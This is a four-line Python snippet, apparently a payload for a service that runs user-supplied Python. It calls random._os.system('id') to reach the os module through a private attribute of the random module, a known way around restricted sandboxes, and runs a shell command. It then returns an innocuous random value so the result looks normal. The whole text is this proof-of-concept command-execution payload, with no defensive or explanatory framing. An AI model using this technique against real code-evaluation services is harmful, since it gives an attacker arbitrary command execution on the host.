import random

random._os.system('id')
return [{"value": random.random()}]
